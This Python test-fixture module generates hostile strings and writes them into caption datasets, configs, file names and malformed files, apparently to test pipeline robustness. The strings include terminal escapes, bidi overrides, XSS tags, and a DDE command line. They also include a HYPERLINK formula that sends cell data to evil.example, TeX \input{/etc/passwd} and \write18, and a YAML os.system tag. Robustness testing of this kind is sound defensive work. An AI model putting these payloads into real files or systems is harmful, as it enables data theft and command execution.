"""Hostile texts, and what carries them: a catalogue, an experiment, a letter, files."""

from __future__ import annotations

import json
import os
from pathlib import Path

TEXTS = {
    "colour": "\x1b[31mred\x1b[0m",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07",
    "screen": "\x1b[2J\x1b[H",
    "8-bit": "\x9b31m red \x85 \x90",
    "bell": "bell \a\b\v\f \x7f",
    "override": "photo \u202egnp.exe",
    "isolate": "a \u2066b\u2069 \u200e\u200f\u061c c",
    "invisible": "ad\u200bmin \u2060\u00ad \U000e0041",
    "mark": "\ufefforder",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing] [",
    "formula": '=HYPERLINK("https://evil.example?q="&A1,"here")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "apostrophe": "'=1+1",
    "wide": "\uff1d1+1",
    "blank": " \t=1+1",
    "tex": r"\input{/etc/passwd} % & # $x$ ^ ~ _ { } \write18{id}",
    "math": r"$\frac{",
    "markdown": "[x](javascript:alert(1)) ![i](https://evil.example) # h",
    "pipe": "a | b || c",
    "ticks": "`code` ``` b",
    "tags": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "quote": '" onmouseover="alert(1)" x=\'y',
    "comment": "</script></style></title><!-- --> ]]>",
    "template": "{{ 7*7 }} {% raw %} {0} {name} %s %(x)s ${HOME} $(id)",
    "yaml": "--- !!python/object:os.system {x: &a *a}",
    "entities": "&lt;b&gt; &#27; &amp;",
    "long": "word " * 2000,
    "unbroken": "w" * 10_000,
    "marks": "e" + "\u0301" * 500,
    "family": "👩‍👩‍👧 نی‌خواهم ไทย हिन्दी 東京",
}
"""By kind: what nothing may act on. The last must stay as it is."""


def picture(place: Path, number: int) -> None:
    """Draw a small picture, different for each number."""
    import numpy as np
    from PIL import Image

    drawn = np.random.Generator(np.random.Philox(number)).integers(0, 255, (4, 4, 3), np.uint8)
    place.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(drawn).resize((16, 16)).save(place, "PNG")


def write_catalogue(folder: Path, images: int = 68) -> Path:
    """Write a COCO-like file, whose ids, captions and attributes are the texts, and pictures."""
    kinds = list(TEXTS)
    entries, annotations = [], []
    for n in range(images):
        kind = kinds[n % len(kinds)]
        name = f"images/{n}.png"
        picture(folder / "data" / name, n)
        image_id = f"{TEXTS[kind][:400]} {n}"
        shade = TEXTS[kinds[(n // 4) % 6]]
        entries.append({"id": image_id, "file_name": name, "shade": shade, "kind": kind})
        annotations.append({"image_id": image_id, "caption": f"{TEXTS[kind]} shirt {n % 5}"})
    file = folder / "data" / "captions.json"
    file.write_text(json.dumps({"images": entries, "annotations": annotations}))
    return file


def write_experiment(folder: Path) -> Path:
    """Write an experiment on the catalogue, whose prompts are texts, too."""
    import yaml

    prompts = {f"p{n:02}": f"{text[:300]} shirt" for n, text in enumerate(TEXTS.values())}
    wanted = ("p00", "p06", "p12", "p24", "p33")
    settings = {
        "name": "hostile",
        "data": {"format": "coco", "path": "data/captions.json", "holdout": 0.05},
        "prompts": {"texts": [prompts[key] for key in wanted]},
        "generator": {"preset": "micro"},
        "generations": 2,
        "retrieval": {"top": 20},
        "removal": {"k": [2], "arms": ["targeted", "random_uniform"], "duplicates": "exact"},
        "design": {"kind": "randomised", "models": 4},
        "evaluation": {"draws": 100},
        "workers": 1,
    }
    file = folder / "experiment.yaml"
    file.write_text(yaml.safe_dump(settings, allow_unicode=False))
    return file


def write_asked(folder: Path) -> None:
    """Write pictures to ask with, and a request with its letter; names as hostile as files have."""
    import yaml

    for n, text in enumerate(TEXTS.values()):
        name = text[:60].replace("/", "∕").replace("\0", "")
        picture(folder / "asked" / f"{name} {n}.png", n)
    picture(folder / "asked" / os.fsdecode(b"latin-\xe9.png"), 90)
    for n, kind in enumerate(("colour", "override", "formula", "tags")):
        name = TEXTS[kind][:60].replace("/", "∕")
        picture(folder / "letter" / f"{name} {n}.png", n)
    said = {"from": TEXTS["title"] + TEXTS["tags"], "received": "2030-01-01"}
    said |= {"reference": TEXTS["colour"], "asks": TEXTS["markdown"] + TEXTS["override"]}
    (folder / "letter" / "request.yaml").write_text(yaml.safe_dump(said))


def write_bytes(folder: Path) -> None:
    """Write catalogues whose texts are no text: lone surrogates, bytes that are not UTF-8, NUL."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pictures = [folder / "data" / "odd" / f"{n}.png" for n in range(3)]
    for n, place in enumerate(pictures):
        picture(place, n)
    data = [place.read_bytes() for place in pictures]
    entries = [
        {"id": f"{n}\ud800", "file_name": f"odd/{n}.png", "shade": "\udfff"} for n in range(3)
    ]
    said = [{"image_id": each["id"], "caption": "lone \ud83d and \0"} for each in entries]
    (folder / "data/captions_lone.json").write_text(
        json.dumps({"images": entries, "annotations": said})
    )
    wrong = pa.array([b"a\xff", b"b\x00", b"c\xed\xa0\x80"]).cast(pa.string(), safe=False)
    table = pa.table({"id": wrong, "caption": wrong, "image": pa.array(data)})
    pq.write_table(table, folder / "wrong.parquet")
    (folder / "wrong.csv").write_bytes(b"path,caption\nodd/0.png,\xff\nodd/1.png,b\x00c\n")
    named = folder / "named"
    for n, name in enumerate((b"a\xff", b"b\xed\xa0\x80", "é\u202e".encode(), b"ok")):
        picture(named / os.fsdecode(name + b".png"), n)
        (named / os.fsdecode(name + b".txt")).write_bytes(b"a shirt")
